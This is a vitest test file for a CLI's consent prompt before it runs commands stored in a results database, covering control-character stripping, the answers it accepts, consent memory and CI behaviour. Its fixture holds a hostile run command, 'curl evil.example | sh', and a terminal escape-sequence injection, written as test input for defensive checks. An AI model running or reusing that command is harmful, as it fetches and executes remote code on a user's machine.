import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { describe, expect, test } from 'vitest'
import { mayRunStored, rememberStarted } from '../../src/cli/stored-commands.ts'
import type { World } from '../../src/cli/world.ts'
import { defineTarget } from '../../src/config/define-target.ts'
import { makeWorkspace, runCli } from './run-cli.ts'

const target = defineTarget(
  {
    name: 'raft',
    run: 'sh -c "curl evil.example | sh" {seed}',
    build: 'make \u001b[2J evil',
    'pass-env': ['MY_LICENSE'],
  },
  () => '',
)

interface Asked {
  readonly mayRun: boolean
  readonly shown: string
}

/** A call at a terminal, where somebody types `answer`; null: there is no terminal. */
async function call(
  answer: string | null,
  { env = {}, consent = false, cwd = makeWorkspace() }: { env?: World['env']; consent?: boolean; cwd?: string } = {},
): Promise<Asked> {
  let shown = ''
  const isTTY = answer !== null
  const stderr = {
    isTTY,
    columns: 80,
    write: (text: string) => {
      shown += text
      return true
    },
    on: () => stderr,
  } as unknown as World['stderr']
  const stdin = Object.assign(Readable.from([answer ?? '']), { isTTY })
  const world = {
    cwd,
    env,
    stdin,
    stderr,
    signal: new AbortController().signal,
  } as unknown as World
  const stored = { targets: [{ target }], directory: cwd, config: null, consent }
  return { mayRun: await mayRunStored(world, stored), shown }
}

describe('the commands of a store that nobody here knows', () => {
  test.each(['y\n', 'Yes\n'])(
    'are shown at a terminal, without control characters, and run after %j',
    async (answer) => {
      const { mayRun, shown } = await call(answer)
      expect(mayRun).toBe(true)
      expect(shown).toContain(' raft\n   build: make ')
      expect(shown).toContain("   run: sh -c 'curl evil.example | sh' 1\n   pass-env: MY_LICENSE\n")
      expect(shown).toMatch(/ These commands come with the store\. Run them in \S+\? \[y\/N\] $/)
      expect(shown).not.toContain('\u001b')
    },
  )

  test.each(['\n', 'n\n', 'yes please\n', ''])('do not run after %j', async (answer) => {
    expect((await call(answer)).mayRun).toBe(false)
  })

  test('do not run without a terminal, and nobody is asked; with the flag they are shown and run', async () => {
    expect(await call(null)).toEqual({ mayRun: false, shown: '' })
    const { mayRun, shown } = await call(null, { consent: true })
    expect({ mayRun, shown: shown.includes('curl evil.example') }).toEqual({ mayRun: true, shown: true })
  })

  test('are asked for once by a user and a directory, and never by what lies beside the store; a CI remembers nothing', async () => {
    const [home, cwd] = [makeWorkspace(), makeWorkspace()]
    const env = { HOME: home }
    expect((await call('y\n', { env, cwd })).mayRun).toBe(true)
    expect(await call(null, { env, cwd })).toEqual({ mayRun: true, shown: '' })
    expect((await call(null, { env })).mayRun).toBe(false)
    expect((await call(null, { env: { ...env, CI: 'true' }, cwd })).mayRun).toBe(false)
    const ci = { HOME: makeWorkspace(), CI: 'true' }
    rememberStarted({ env: ci } as unknown as World, cwd, [target])
    expect(existsSync(join(ci.HOME, '.local'))).toBe(false)
  })

  test('a home that cannot be written to is no reason to fail', () => {
    const file = join(makeWorkspace(), 'file')
    writeFileSync(file, '')
    expect(() => rememberStarted({ env: { HOME: file } } as unknown as World, makeWorkspace(), [target])).not.toThrow()
  })
})

test('what run started here reproduce runs again, without configuration; another directory is told why not', async () => {
  const cwd = makeWorkspace()
  const words = ['run', '--seeds', '0..3', '--db', 'a.db', '--json', '--', 'sh', '-c', 'exit 1', 'sim', '{seed}']
  const { stdout } = await runCli(words, { cwd })
  const { findings } = JSON.parse(stdout) as { findings: { id: string }[] }
  const id = findings[0]?.id ?? ''
  expect((await runCli(['reproduce', id, '--db', 'a.db'], { cwd })).code).toBe(0)
  const stranger = { cwd: makeWorkspace() }
  const db = join(cwd, 'a.db')
  const refused = await runCli(['reproduce', id, '--db', db], stranger)
  expect(refused.code).toBe(2)
  expect(refused.stderr).toContain('Look at it, then say --run-stored-commands, or configure the target')
  const triage = await runCli(['triage', '--db', db], stranger)
  expect(triage.stderr).toContain('configuration; look at it, then say --run-stored-commands\n')
  expect((await runCli(['reproduce', id, '--db', db, '--run-stored-commands'], stranger)).code).toBe(0)

  // What people said of the finding is said with it; the run stays.
  mkdirSync(join(cwd, '.seedsweep'))
  const known = `corrections:\n  - expected: ${id}\n    reason: by design\n`
  writeFileSync(join(cwd, '.seedsweep', 'known.yml'), known)
  const again = await runCli(['reproduce', id, '--db', 'a.db'], { cwd })
  expect(again.code).toBe(0)
  expect(again.stderr).toContain(' note: this finding is expected (.seedsweep/known.yml:2:5)\n')
})
